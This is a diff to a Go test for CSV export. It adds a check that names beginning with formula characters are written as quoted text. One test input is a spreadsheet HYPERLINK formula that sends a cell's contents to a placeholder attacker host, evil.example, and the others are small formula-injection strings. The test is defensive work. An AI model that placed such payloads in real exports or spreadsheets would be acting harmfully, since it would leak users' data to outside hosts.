@@ -127,4 +127,15 @@ func TestRender(t *testing.T) {
 	require.Len(t, rows, 3, "the header and two minutes")
 	require.Equal(t, []string{"start", "arrivals"}, rows[0][:2])
 	require.Equal(t, []string{"2026-11-30T12:00:00Z", "40"}, rows[1][:2])
+	require.Equal(t, "Gig", fig["name"])
+
+	// A name a spreadsheet would run as a formula is written as text.
+	for _, name := range []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1", "-2+3", "@SUM(A1)", "\tx"} {
+		r.Name = name
+		out.Reset()
+		require.NoError(t, CSV(&out, r))
+		figs, err := csv.NewReader(strings.NewReader(strings.SplitN(out.String(), "\n\n", 2)[0])).ReadAll()
+		require.NoError(t, err)
+		require.Equal(t, []string{"name", "'" + name}, figs[2], name)
+	}
 }
